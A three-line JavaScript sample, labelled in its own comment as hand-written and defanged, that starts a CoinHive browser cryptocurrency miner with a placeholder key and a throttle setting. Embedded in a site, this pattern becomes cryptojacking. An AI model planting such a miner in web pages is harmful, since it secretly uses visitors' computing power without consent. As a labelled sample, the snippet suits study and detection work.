// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
var miner = new CoinHive.Anonymous("DEFANGED-KEY", { throttle: 0.3 });
miner.start();
